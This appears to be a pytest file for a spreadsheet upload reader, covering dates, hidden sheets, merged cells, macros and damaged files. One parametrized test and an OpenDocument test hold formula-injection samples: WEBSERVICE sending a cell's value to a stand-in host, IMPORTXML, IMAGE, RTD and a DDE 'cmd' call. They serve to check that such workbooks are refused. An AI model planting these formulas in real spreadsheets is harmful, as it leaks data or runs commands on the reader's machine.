"""Workbooks: sheets, what they hide, merges, days and numbers, and what is not opened."""

import io
import tempfile
import zipfile
from datetime import UTC, date, datetime, time
from typing import Any, BinaryIO, cast

import pytest

from app.files.opening import Unreadable, open_file
from tests.files.books import book, cells, changed, opened, with_rows

LIST = with_rows(["Name", "Team"], ["Ann Ash", "Pay"], ["Bob Beech", "Pensions"])


def test_ids_stay_what_they_are_and_days_are_days() -> None:
    def write(made: Any, sheet: Any) -> None:
        day = made.add_format({"num_format": "dd/mm/yyyy"})
        minute = made.add_format({"num_format": "dd/mm/yyyy hh:mm"})
        clock = made.add_format({"num_format": "hh:mm"})
        sheet.write_row(0, 0, ["No", "Text", "Part", "Day", "At", "Serial", "Yes", "Hour"])
        sheet.write_number(1, 0, 12345)
        sheet.write_string(1, 1, "004512")
        sheet.write_number(1, 2, 0.1 + 0.2)
        sheet.write_datetime(1, 3, date(2026, 11, 3), day)
        sheet.write_datetime(
            1, 4, datetime(2026, 11, 3, 14, 5, tzinfo=UTC).replace(tzinfo=None), minute
        )
        sheet.write_number(1, 5, 45000)
        sheet.write_boolean(1, 6, True)
        sheet.write_datetime(1, 7, time(9, 30), clock)

    said = ("12345", "004512", "0.3", "2026-11-03", "2026-11-03 14:05:00", "45000", "TRUE", "09:30")
    assert cells(book(write))[1] == said
    assert cells(book(write, date_1904=True))[1] == said


def test_a_number_longer_than_a_spreadsheet_keeps_is_said() -> None:
    found = opened(with_rows(["Name", "No"], ["Ann", 1234567890123456]))
    assert [row.cells for row in found.rows(0)][1] == ("Ann", "1234567890123456")
    assert "Line 2: a number was shortened" in found.sheets[0].notes[0]


def test_the_sheet_with_the_list_is_proposed_and_hidden_ones_are_said() -> None:
    def write(made: Any, sheet: Any) -> None:
        sheet.write(0, 0, "Read me first")
        people = made.add_worksheet("People")
        for at in range(20):
            people.write_row(at, 0, [f"Name {at}", "Team"] if at else ["Name", "Team"])
        old = made.add_worksheet("Old & gone")
        for at in range(90):
            old.write_row(at, 0, ["a", "b", "c"])
        old.hide()

    found = opened(book(write))
    assert [(sheet.name, sheet.hidden, sheet.rows) for sheet in found.sheets] == [
        ("Staff", False, 1), ("People", False, 20), ("Old & gone", True, 90),
    ]  # fmt: skip
    assert found.best == 1
    assert len(list(found.rows(2))) == 90


def test_hidden_rows_and_columns_are_read_and_said() -> None:
    def write(_: Any, sheet: Any) -> None:
        for at in range(6):
            sheet.write_row(at, 0, [f"n{at}", f"t{at}", f"g{at}"])
            if at in (2, 3, 5):
                sheet.set_row(at, None, None, {"hidden": True})
        sheet.set_column(1, 2, None, None, {"hidden": True})

    found = opened(book(write))
    assert len(list(found.rows(0))) == 6
    assert found.sheets[0].notes == (
        "3 hidden rows are read like the others.",
        "2 hidden columns are read like the others.",
    )


def test_each_part_of_a_merged_cell_says_what_it_says() -> None:
    def write(_: Any, sheet: Any) -> None:
        sheet.merge_range("A1:D1", "Staff list, November")
        sheet.merge_range("A3:A4", "Team")
        sheet.merge_range("B3:B4", "Name")
        sheet.merge_range("C3:D3", "Contract")
        sheet.write_row("C4", ["Type", "Start"])
        sheet.merge_range("A5:A6", "Pay")
        sheet.write_row("B5", ["Ann Ash", "Fixed", "x"])
        sheet.write_row("B6", ["Bob Beech", "Open", "y"])
        sheet.write_row("A7", ["Total", 2])

    found = opened(book(write))
    sheet = found.sheets[0]
    assert sheet.header == (3, 4)
    assert sheet.names == ("Team", "Name", "Contract / Type", "Contract / Start")
    assert sheet.notes == (
        "Row 1 above the header is a title.",
        "Merged cells: each part is given what the merged cell says.",
        "The last row is a total or a remark and is not a person.",
    )
    rows = {row.line: row.cells for row in found.rows(0)}
    assert (rows[5][:2], rows[6][:2]) == (("Pay", "Ann Ash"), ("Pay", "Bob Beech"))


def test_formulas_say_what_they_said_when_saved() -> None:
    data = book(
        lambda _, sheet: (
            sheet.write_row(0, 0, ["Name", "Years"]),
            sheet.write_row(1, 0, ["Ann", ""]),
            sheet.write_formula(1, 1, "=1+1", None, 7),
        )
    )
    assert cells(data)[1] == ("Ann", "7")


def test_macros_are_said_and_not_run() -> None:
    found = opened(changed(LIST, "xl/vbaProject.bin", lambda _: b"x"))
    assert found.sheets[0].notes == ("The macros in this workbook are not run.",)


@pytest.mark.parametrize(
    "formula",
    ['WEBSERVICE("http://a.example/"&A1)', 'IMPORTXML("http://a.example","//a")',
     '_xlfn.IMAGE("https://a.example/x.png")', "cmd|'/C calc'!A0", 'RTD("a",,"b")'],
)  # fmt: skip
def test_a_formula_that_calls_home_is_not_opened(formula: str) -> None:
    data = book(lambda _, sheet: sheet.write_formula(0, 0, "=1"))
    sent = formula.replace("&", "&amp;").replace('"', "&quot;").encode()
    data = changed(
        data, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b">1</f>", b">" + sent + b"</f>")
    )
    with pytest.raises(Unreadable, match="from other files or from the web"):
        opened(data)


def test_words_about_formulas_are_only_words() -> None:
    assert cells(with_rows(["Name", "Notes"], ["Ann", "asked what WEBSERVICE( does | now!"]))


def test_links_to_other_files_are_not_opened() -> None:
    data = changed(LIST, "xl/externalLinks/externalLink1.xml", lambda _: b"<externalLink/>")
    with pytest.raises(Unreadable, match="from other files or from the web"):
        opened(data)


def ods(content: str, manifest: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        made.writestr("META-INF/manifest.xml", f"<manifest>{manifest}</manifest>")
        made.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
            ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
            ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
            ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            f"<office:spreadsheet>{content}</office:spreadsheet></office:body>"
            "</office:document-content>",
        )
    return out.getvalue()


def ods_row(*said: str, more: str = "") -> str:
    inside = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{one}</text:p></table:table-cell>'
        for one in said
    )
    return f"<table:table-row{more}>{inside}</table:table-row>"


def test_an_opendocument_sheet_is_read_like_any_other() -> None:
    hidden = ' table:visibility="collapse"'
    rows = ods_row("Name", "No") + ods_row("Ann", "007", more=hidden) + ods_row("Bob", "8")
    found = opened(ods(f'<table:table table:name="People">{rows}</table:table>'))
    assert found.kind == "OpenDocument spreadsheet"
    assert [row.cells for row in found.rows(0)] == [("Name", "No"), ("Ann", "007"), ("Bob", "8")]
    assert found.sheets[0].notes == ("1 hidden row is read like the others.",)


def test_an_opendocument_sheet_that_calls_home_or_is_locked_is_not_opened() -> None:
    cell = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://a.example&quot;)"/>'
    with pytest.raises(Unreadable, match="from the web"):
        opened(
            ods(
                f'<table:table table:name="a"><table:table-row>{cell}</table:table-row>'
                "</table:table>"
            )
        )
    with pytest.raises(Unreadable, match="locked with a password"):
        opened(ods("", "<manifest:encryption-data/>"))


@pytest.mark.parametrize("kept", [30, 400, -10, -200, -1500])
def test_half_a_workbook_is_said(kept: int) -> None:
    with pytest.raises(Unreadable, match="damaged, or only part of it arrived"):
        opened(LIST[:kept])


def test_an_archive_of_something_else_is_said() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("list.csv", "Name\nAnn")
    with pytest.raises(Unreadable, match="ZIP archive"):
        opened(out.getvalue())
    with pytest.raises(Unreadable, match="a document"):
        opened(changed(out.getvalue(), "word/document.xml", lambda _: b"<x/>"))


def test_an_empty_workbook_is_empty() -> None:
    with pytest.raises(Unreadable, match="file is empty"):
        opened(book(lambda *_: None))


def test_more_columns_than_a_list_needs_are_said_only_of_that_sheet() -> None:
    def write(made: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, ["Name", "Team"])
        sheet.write_row(1, 0, ["Ann", "Pay"])
        made.add_worksheet("Wide").write_row(0, 0, [f"c{at}" for at in range(201)])

    found = opened(book(write))
    assert found.best == 0
    assert len(list(found.rows(0))) == 2
    with pytest.raises(Unreadable, match="201 columns"):
        list(found.rows(1))


def test_a_workbook_is_read_from_where_a_form_put_it() -> None:
    """In memory while it is small, on the disk without a name when it is large."""
    for most in (1, 10_000_000):
        with tempfile.SpooledTemporaryFile(max_size=most) as file:
            file.write(LIST)
            with open_file(cast("BinaryIO", file), "") as found:
                assert [row.line for row in found.rows(0)] == [1, 2, 3]
